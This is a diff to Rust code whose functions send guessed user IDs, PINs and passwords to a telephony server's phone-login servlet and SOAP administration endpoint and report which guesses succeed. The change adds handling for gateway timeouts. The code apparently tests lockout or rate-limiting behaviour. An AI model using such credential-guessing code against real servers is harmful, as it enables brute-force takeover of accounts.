@@ -112,10 +112,12 @@ impl Target {
 fn guess_at_phone(mut connection: Connection, phone: &str, user: &str, pin: &str) -> bool {
     let query = format!("/emapp/EMAppServlet?device={phone}&userid={user}&seq={pin}");
     connection.send(request("GET", &query, &[], ""));
-    let body = connection.answer().expect("an answer").body;
+    let answer = connection.answer().expect("an answer");
     let refused = ["again (201)", "unavailable(26)", "unavailable(6)"];
-    let right = body.contains("Login successful");
-    assert!(right || refused.iter().any(|text| body.contains(text)), "{body}");
+    let right = answer.body.contains("Login successful");
+    // or it came too late for a gateway that waits five seconds
+    let is_refused = answer.status == 408 || refused.iter().any(|text| answer.body.contains(text));
+    assert!(right || is_refused, "{answer:?}");
     right
 }
 
@@ -123,7 +125,7 @@ fn guess_over_soap(mut connection: Connection, user: &str, password: &str) -> bo
     let headers = [("Authorization", &*basic(user, password)), ("Content-Type", "text/xml")];
     connection.send(request("POST", "/axl/", &headers, &envelope("15.0", "getCCMVersion", "")));
     let answer = connection.answer().expect("an answer");
-    assert!([200, 401, 503].contains(&answer.status), "{answer:?}");
+    assert!([200, 401, 408, 503].contains(&answer.status), "{answer:?}");
     answer.status == 200
 }
 
